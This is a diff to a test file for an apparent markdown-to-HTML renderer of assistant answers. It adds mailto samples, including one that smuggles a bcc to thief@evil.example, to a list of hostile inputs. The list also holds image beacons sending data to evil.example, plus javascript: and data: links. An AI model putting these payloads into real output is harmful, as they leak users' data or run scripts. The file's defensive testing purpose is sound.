@@ -8,6 +8,8 @@ const hostile = [
   '![x](https://evil.example/p.png?d=orders)',
   '![x][1]\n\n[1]: https://evil.example/p.png',
   '[Click to verify](https://evil.example/?token=1)',
+  '[our desk](mailto:thief@evil.example)',
+  '<help@ours.example?bcc=thief@evil.example>',
   '[track](javascript:alert(1))',
   '[open](data:text/html;base64,PHNjcmlwdD4=)',
   '[home](//evil.example/login)',
@@ -35,14 +37,17 @@ describe('hostile text in an answer', () => {
     expect(html).not.toMatch(/\s(?:on\w+|style|src)=/i);
     // An address elsewhere is a link only where it can be read whole, and never to anything that runs.
     for (const [, href, shown] of html.matchAll(/<a href="([^"]*)"[^>]*>(.*?)<\/a>/g)) {
-      expect(href).toMatch(/^https?:\/\//);
-      expect(shown).toBe(href);
+      expect(href).toMatch(/^(?:https?:\/\/|mailto:[\w.+-]+@[\w.-]+$)/);
+      expect(shown).toBe(href?.replace(/^mailto:/, ''));
     }
   });
 
   it('keeps links of our own, and addresses that show whole', () => {
     expect(draw('[the order](/order-details/1)')).toContain('<a href="/order-details/1"');
     expect(draw('<https://www.ups.com/track?n=1>')).toContain('href="https://www.ups.com/track?n=1"');
+    expect(draw('Write to maya@example.com.')).toBe(
+      '<div class="prose"><p>Write to <a href="mailto:maya@example.com">maya@example.com</a>.</p></div>',
+    );
   });
 });
 
